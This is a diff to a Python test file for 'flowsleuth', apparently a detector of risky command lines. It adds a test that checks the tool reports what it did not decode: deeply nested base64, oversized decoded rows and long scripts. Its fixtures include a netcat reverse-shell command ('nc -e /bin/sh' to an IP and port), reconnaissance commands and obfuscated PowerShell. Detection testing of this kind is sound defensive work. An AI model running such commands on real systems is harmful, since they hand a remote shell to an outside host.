@@ -13,7 +13,7 @@ from hypothesis import strategies as st
 
 from flowsleuth.errors import OptionError
 from flowsleuth.extract.command_lines import load_rules, risky_cmd_line, risky_commands
-from flowsleuth.extract.command_lines.risky import COLUMNS
+from flowsleuth.extract.command_lines.risky import COLUMNS, NOT_WHOLE
 
 NETCAT = "nc -e /bin/sh 192.0.2.7 4444"
 
@@ -198,3 +198,28 @@ def test_a_row_is_judged_by_itself(lines: list[str | None]) -> None:
     tables = [pa.table({"cmd": pa.array(part, pa.string())}) for part in (lines, *([line] for line in lines))]
     together, *alone = [risky_commands(table, "cmd").to_pylist() for table in tables]
     assert together == [one | {"row": row} for row, found in enumerate(alone) for one in found]
+
+
+def test_what_was_not_looked_at_is_told_whatever_was_asked_for(monkeypatch: pytest.MonkeyPatch) -> None:
+    deep = "whoami /all && net user"
+    for _ in range(22):
+        deep = _base64(deep)
+    lines = pandas.DataFrame({"cmd": ["ls", f"echo {deep}", f"{NETCAT} {deep}", f"echo {_base64('whoami /all')}"]})
+    found = risky_commands(lines, "cmd", least="high")
+    assert _rules(found) == [(1, NOT_WHOLE), (2, "reverse-shell-netcat"), (2, NOT_WHOLE)]
+    told = found.iloc[0]
+    assert told["reason"] == "encoded more than 20 levels deep; the rest was not looked at"
+    assert (told["severity"], pandas.isna(told["matched"]), told["offset"]) == ("low", True, 5)
+    assert told["command_line"] == f"echo {deep}"
+    assert _rules(risky_commands(lines, "cmd", least="high", decode=False)) == [(2, "reverse-shell-netcat")]
+    monkeypatch.setattr("flowsleuth.extract.command_lines.views.ALL_DECODED", 1_024)
+    many = pandas.DataFrame({"cmd": [f"echo {_base64(f'whoami {n} ' * 40)}" for n in range(9)]})
+    rows = risky_commands(many, "cmd", least="high")
+    assert rows["rule"].unique().tolist() == [NOT_WHOLE]
+    assert rows["row"].tolist() == list(range(rows["row"].min(), 9))
+    assert rows["reason"].iloc[0].startswith("all rows together become more than 1,024 bytes")
+    monkeypatch.setattr("flowsleuth.extract.command_lines.views.LONGEST_SCRIPT", 50)
+    script = pandas.DataFrame({"cmd": ["powershell ('Invoke' + '-Something') " + "x" * 50]})
+    assert risky_commands(script, "cmd", least="high")["reason"].tolist() == [
+        "constants of scripts of more than 50 characters are not worked out"
+    ]
